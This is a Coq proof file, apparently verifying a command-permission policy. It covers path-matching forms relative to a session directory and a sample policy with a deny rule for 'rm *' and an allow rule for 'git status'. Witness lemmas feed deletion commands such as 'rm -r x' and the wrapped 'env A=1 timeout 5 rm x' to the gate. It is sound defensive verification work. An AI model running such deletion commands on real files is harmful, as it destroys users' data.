  unfold path_match_string. destruct s as [|a s]; [done|]. destruct (lossy_head a s) as (b&t&->&H).
  rewrite replace_slash. split; [done|]. generalize (byte_eqb_spec "\" b). generalize (byte_eqb "\" b). intros q Hq. intros [= Hb Ht].
  assert (t = "") as -> by (destruct t; [done|by rewrite replace_slash in Ht]).
  destruct Hq; [discriminate Hb|]. destruct (H Hb) as [-> E]. destruct s as [|c s]; [done|].
  by destruct (lossy_head c s) as (?&?&E'&_); rewrite E' in E.
Qed.

Lemma join_names_short n names : Forall body_wf (Normal <$> (n :: names)) ->
  join "/" (n :: names) <> "" /\ join "/" (n :: names) <> ".".
Proof.
  intros H. destruct (Forall_cons_1 _ _ _ H) as [(_&N1&N2&_) _]. destruct names as [|m names]; [done|].
  rewrite join_cons by done. destruct n as [|a [|b n]]; done.
Qed.

Lemma tilde_relative path : is_tilde_path path = true -> is_absolute path = false.
Proof. unfold is_tilde_path, components. by destruct (is_absolute path). Qed.

Lemma join_cwd_absolute path cwd : is_absolute cwd = true -> is_absolute (join_cwd path (Some cwd)) = true.
Proof.
  intros (r&->)%starts_with_iff. unfold join_cwd. destruct (is_absolute path) eqn:E; [done|]. cbn [negb]. unfold push.
  rewrite E. destruct (_ || _); rewrite sapp_assoc; apply starts_with_app.
Qed.

(** Rules written relative to the session's directory see exactly the
    paths under it.  The forms of a path are its normalized absolute form and,
    only when walking to the path passes through the session's directory, the
    names below that directory with and without a leading dot; a path that
    starts with a tilde has its literal form only. *)
Theorem relative_forms_exact path cwd : is_absolute cwd = true ->
  path_match_forms path (Some cwd) =
  if is_tilde_path path then [path_match_string path]
  else path_match_string ("/" +:+ join "/" (place (join_cwd path (Some cwd)))) ::
    match names_under (place cwd) (place (join_cwd path (Some cwd))) with
    | Some [] => ["."; "./"]
    | Some names => ["./" +:+ path_match_string (join "/" names); path_match_string (join "/" names)]
    | None => []
    end.
Proof.
  intros H. pose proof (join_cwd_absolute path cwd H) as J. unfold path_match_forms, absolute_normalized_path.
  rewrite (normalize_place cwd H). destruct (is_tilde_path path) eqn:E.
  - unfold strip_path_prefix. rewrite components_place by (by apply place_wf). by rewrite tilde_relative.
  - rewrite (normalize_place _ J), strip_place by (by apply place_wf). f_equal.
    destruct (names_under _ _) as [[|n names]|] eqn:N; [done| |done]. cbn [fmap option_fmap option_map].
    apply names_under_some in N. pose proof (Forall_under _ _ _ N (place_wf _ J)) as W.
    destruct (join_names_short _ _ W) as [S1 S2]. destruct (pms_short (join "/" (n :: names))) as [P1 P2].
    unfold is_empty. destruct (String.eqb_spec (path_match_string (join "/" (n :: names))) "") as [X|_];
      [by apply P1 in X|]. destruct (String.eqb_spec (path_match_string (join "/" (n :: names))) ".") as [X|_];
      [by apply P2 in X|]. done.
Qed.

Lemma relative_forms_exact_witness :
  path_match_forms "src/../lib.rs" (Some "/home/u") = ["/home/u/lib.rs"; "./lib.rs"; "lib.rs"] /\
  path_match_forms "../v/x" (Some "/home/u") = ["/home/v/x"].
Proof.
  split; (etrans; [apply (relative_forms_exact _ "/home/u"); vm_compute; reflexivity|vm_compute; reflexivity]).
Defined.

(** ** A concrete setting *)

Module Sample.

(** A parser of single commands whose words are separated by one space. *)
Fixpoint word_nodes (off : nat) (ws : list string) : list Node :=
  match ws with
  | [] => []
  | w :: ws' => word_node off (off + String.length w) :: word_nodes (off + String.length w + 1) ws'
  end.
#[local] Instance one_command : TreeSitter := fun script =>
  let n := String.length script in
  match word_nodes 0 (split_char " " script) with
  | w :: ws => Some (MkTree (MkNode "program" true None 0 n
                 [MkNode "command" true None 0 n (MkNode "command_name" true (Some "name") 0 (end_byte w) [w] :: ws)]) false)
  | [] => None
  end.

(** Patterns that are a text, or a text before a star. *)
#[local] Instance prefix_glob : GlobCrate := {|
  Pattern := string;
  Pattern_new := Some;
  matches_with p s _ := match strip_suffix "*" p with Some q => starts_with q s | None => p =s? s end |}.
#[local] Instance no_urls : UrlCrate := fun _ => None.
#[local] Instance ascii_lower : Unicode := to_ascii_lowercase.
#[local] Instance no_files : FileSystem := {|
  canonicalize _ := None; symlink_metadata _ := Err NotFound; read_link _ := None |}.
#[local] Existing Instance Tree.serde.

Definition deny_rm : PermissionRule := MkRule RDeny FBash (Some "rm *") Glob.
Definition allow_git : PermissionRule := MkRule RAllow FBash (Some "git status") Glob.
Definition sample : PermissionConfig := PermissionConfig_new [allow_git; deny_rm].

Lemma evaluate_order_independent_witness :
  decision_rank <$> evaluate_lexical_with_cwd (CompiledPolicy_new sample) (Bash "rm -r x") None = Some 3 /\
  decision_rank <$> evaluate_lexical_with_cwd (CompiledPolicy_new (PermissionConfig_new [deny_rm; allow_git]))
    (Bash "rm -r x") None = Some 3.
Proof.
  split; [vm_compute; reflexivity|].
  rewrite (evaluate_order_independent (PermissionConfig_new [deny_rm; allow_git]) sample); [vm_compute; reflexivity|].
  apply Permutation_swap.
Defined.

Lemma bash_allow_covers_all_witness :
  evaluate_lexical_with_cwd (CompiledPolicy_new sample) (Bash "timeout 5 git status") None = Some DAllow /\
  applying sample (Bash "timeout 5 git status") None RDeny = [] /\
  exists ws, Runs MAX_INLINE_SHELL_DEPTH "timeout 5 git status" ws.
Proof.
  destruct (bash_allow_covers_all sample "timeout 5 git status" None) as (D&_&R&_); [vm_compute; reflexivity|].
  split_and!; [vm_compute; reflexivity|exact D|exact R].
Defined.


Lemma wrapped_deny_rejects_witness :
  exists reason, evaluate_bash_command_gate (CompiledPolicy_new sample) "env A=1 timeout 5 rm x" = Some (GReject reason).
Proof.
  apply (wrapped_deny_rejects sample "env A=1 timeout 5 rm x"
    [MkPlainCommand ["env"; "A=1"; "timeout"; "5"; "rm"; "x"] 0 22]
    (MkPlainCommand ["env"; "A=1"; "timeout"; "5"; "rm"; "x"] 0 22) 2 ["rm"; "x"] deny_rm).
  - vm_compute. reflexivity.
  - left.
  - eapply nsteps_l; [left; vm_compute; reflexivity|]. eapply nsteps_l; [left; vm_compute; reflexivity|]. constructor.
  - lia.
  - vm_compute. split_and!; done.
  - right. left.
  - reflexivity.
  - vm_compute. reflexivity.
Defined.

Lemma narrow_allow_is_allow_witness :
  evaluate_lexical_with_cwd (CompiledPolicy_new sample) (Bash "nice git status") None = Some DAllow.
Proof. apply (narrow_allow_is_allow sample "nice git status" None); vm_compute; reflexivity. Defined.
End Sample.
